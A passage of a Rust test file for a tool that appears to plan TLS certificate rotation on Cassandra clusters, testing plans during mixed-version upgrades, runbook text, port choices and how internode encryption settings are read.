    for name in ["keystore.node1", "truststore.node1", "truststore-after.node1"] {
        let put = sources.iter().any(|source| source.ends_with(&format!("ours/g1/node1/{name}")));
        assert!(put, "{name} of the bundle is put");
    }
}

#[test]
fn plans_of_one_shape_between_other_files_have_other_names() {
    let named = || {
        let hosts = Hosts::new("3.11", 2);
        hosts.tls(0);
        let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
        let plan = hosts.rotation(&state);
        let files = hosts.playbook(&state, &plan).unwrap();
        (plan.to_string(), data(&files)["plan"].clone())
    };
    let ((one, first), (other, second)) = (named(), named());
    assert_eq!(one, other);
    assert_ne!(first, second, "a marker of one would pass for the other");
}

/// The text of a runbook for an observed cluster.
fn runbook(state: &State, plan: &Plan) -> String {
    let nodes = cassandra_tls::plan::changes(&state.cluster, Some(plan), &state.addresses(), Some(&state.certificates));
    let (builds, cluster) = (state.builds(), &state.cluster);
    let sources = cassandra_tls::show::Sources { state: Some(state), generation: None };
    let staging = cassandra_tls::description::StagingChoice::InPlace;
    let words = cassandra_tls::show::Words { builds: &builds, staging, cluster, sources };
    let (title, id, rests_on) = ("3 nodes", "0", &[]);
    cassandra_tls::show::Runbook { title, id, goal: "", cluster, plan, refusal: None, rests_on, nodes: &nodes, words }
        .text()
}

/// What a runbook says to do on a node: the lines below its boxes.
fn on(runbook: &str, node: &str) -> String {
    let boxes = runbook
        .split("\n- [ ] ")
        .filter(|part| part.starts_with(&format!("**{node}**")) || part.contains(&format!("# on {node} and")));
    boxes.collect()
}

/// Hosts of which node1 runs another release than the others.
fn upgrading(release: &str, upgraded: &str) -> Hosts {
    let mut hosts = Hosts::new(release, 2);
    hosts.description.nodes[1].cassandra = Some(upgraded.parse().unwrap());
    hosts.tls(0);
    hosts
}

#[test]
fn in_the_middle_of_an_upgrade_each_node_is_read_planned_and_commanded_as_what_it_runs() {
    let hosts = upgrading("3.11.19", "4.0.19");
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(state.builds().to_string(), "3.11.19 and 4.0.19");
    assert_eq!(State::parse(&state.json().unwrap()).unwrap(), state);
    let plan = hosts.rotation(&state);
    check(&state.cluster, &plan).unwrap();
    let loads = |node: &str| -> Vec<Activation> {
        let of_node = plan.steps().filter(|step| step.node().as_str() == node);
        of_node.filter_map(|step| if let Action::Activate(how) = step.action() { Some(*how) } else { None }).collect()
    };
    assert!(["node0", "node2"].iter().all(|node| loads(node).iter().all(|how| *how == Activation::Restart)), "{plan}");
    assert!(!loads("node1").is_empty() && loads("node1").iter().all(|how| *how == Activation::Reload), "{plan}");
    let runbook = runbook(&state, &plan);
    let (old, new) = (on(&runbook, "node0"), on(&runbook, "node1"));
    assert!(old.contains("nodetool drain") && old.contains("192.0.2.10:7001") && !old.contains("reloadssl"), "{old}");
    assert!(new.contains("nodetool reloadssl") && new.contains("192.0.2.11:7000") && !new.contains("drain"), "{new}");
    let data = data(&hosts.playbook(&state, &plan).unwrap());
    assert_eq!(data["ports"], serde_json::json!([7000, 7001]));
    let ports = ["node0", "node1", "node2"].map(|node| data["nodes"][node]["port"].as_u64().unwrap());
    assert_eq!(ports, [7001, 7000, 7001]);
    // The judges are those of both releases: SunX509 before 4.0, PKIX from then on.
    let given = State::of_generation(&hosts.description, &hosts.generations[0]).unwrap();
    assert_eq!(given.builds().to_string(), "3.11.19 and 4.0.19");
    assert_eq!(given.disks["node1"].cassandra, state.disks["node1"].cassandra);
}

/// Settings are edited as the release of the node reads them: `optional` is known from 4.0 on.
#[test]
fn in_the_middle_of_an_upgrade_settings_are_those_of_each_release() {
    let hosts = upgrading("4.0.19", "4.1.10");
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let plan = hosts.rotation(&state);
    assert_eq!(plan.cost(), hosts_of_one_release(&hosts).cost(), "both reload");
    assert_eq!(data(&hosts.playbook(&state, &plan).unwrap())["ports"], serde_json::json!([7000]));
    hosts.plaintext();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let manifest = Manifest::read(&hosts.generations[0]).unwrap();
    let goal = Goal::enable(state.targets(&manifest).unwrap(), Plaintext::Refused);
    let plan = rotation_planner::plan(&state.cluster, &goal, &Preference::default()).unwrap();
    let runbook = runbook(&state, &plan);
    assert!(["node0", "node1"].iter().all(|node| on(&runbook, node).contains("optional: true")), "{runbook}");
    // 3.11 has no `optional`: it cannot be enabled without a cut, and neither can a cluster with one such node.
    let hosts = upgrading("4.0.19", "3.11.19");
    hosts.plaintext();
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let refusal = rotation_planner::plan(&state.cluster, &goal, &Preference::default()).unwrap_err();
    assert!(refusal.to_string().contains("node1"), "{refusal}");
}

fn hosts_of_one_release(like: &Hosts) -> Plan {
    let hosts = Hosts::new(&like.description.cassandra.to_string(), 2);
    hosts.tls(0);
    hosts.rotation(&hosts.observe(Unknown::HasLoadedItsFiles).unwrap().0)
}

/// Sets `internode_encryption` of a host that has settings for TLS.
fn set_encryption(hosts: &Hosts, node: &str, value: &str) {
    let file = hosts.root(node).join(PROPERTIES.trim_start_matches('/'));
    let (setting, text) = ("conf_cassandra_server_encryption_internode_encryption", fs::read_to_string(&file).unwrap());
    let of_others: Vec<&str> = text.lines().filter(|line| !line.starts_with(setting)).collect();
    fs::write(&file, format!("{}\n{setting}={value}\n", of_others.join("\n"))).unwrap();
}

#[test]
fn which_pairs_are_encrypted_is_read_from_the_settings_and_a_contradiction_is_an_error() {
    let mut hosts = Hosts::new("4.0.19", 2);
    let said = |hosts: &Hosts| format!("{:#}", hosts.observe(Unknown::HasLoadedItsFiles).unwrap_err());
    hosts.tls(0);
    for node in ["node0", "node1", "node2"] {
        set_encryption(&hosts, node, "dc");
    }
    assert!(
        said(&hosts).contains("internode_encryption in the settings: encryption = \"dc\" encrypts nothing"),
        "{}",
        said(&hosts)
    );
    for (node, dc) in hosts.description.nodes.iter_mut().zip(["dc1", "dc1", "dc2"]) {
        node.dc = Some(dc.parse().unwrap());
    }
    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(state.cluster.scope(), Scope::Dc);
    // The nodes of dc1 need not trust each other: one reload less than if all pairs were encrypted.
    let plan = hosts.rotation(&state);
    check(&state.cluster, &plan).unwrap();
    // Another setting in another data centre costs nothing. Within one, the node that connects decides, and is refused.
    set_encryption(&hosts, "node2", "all");
    let (differing, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let scopes =
        |state: &State| -> Vec<Scope> { state.cluster.nodes().map(|(_, node)| state.cluster.scope_of(node)).collect() };
    assert_eq!((differing.cluster.scope(), scopes(&differing)), (Scope::Dc, vec![Scope::Dc, Scope::Dc, Scope::All]));
    assert_eq!(State::parse(&differing.json().unwrap()).unwrap(), differing);
    let of_differing = hosts.rotation(&differing);
    check(&differing.cluster, &of_differing).unwrap();
    assert_eq!(of_differing.cost(), plan.cost());
    hosts.playbook(&differing, &of_differing).unwrap();
    set_encryption(&hosts, "node1", "all");
    let (cut, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(scopes(&cut), [Scope::Dc, Scope::All, Scope::All]);
    let witness = rotation_planner::Checker::safe(&cut.cluster).unwrap_err().to_string();
    assert!(witness.contains("node0 cannot connect to node1") && witness.contains("plaintext"), "{witness}");
    set_encryption(&hosts, "node2", "dc");
    // Plaintext contradicts nothing.
    set_encryption(&hosts, "node1", "none");
    let (mixed, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    assert_eq!(mixed.cluster.scope(), Scope::Dc);
    for node in ["node0", "node1", "node2"] {
        set_encryption(&hosts, node, "all");
    }
    let (all, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
    let (of_all, of_dc) = (hosts.rotation(&all).cost(), plan.cost());
    assert!(of_dc.reloads < of_all.reloads, "{of_dc:?} {of_all:?}");
    hosts.description.encryption = Some(cassandra_tls::description::Encryption::Dc);
    let described = said(&hosts);
    assert!(described.contains("internode_encryption is all, but the description says dc"), "{described}");
}
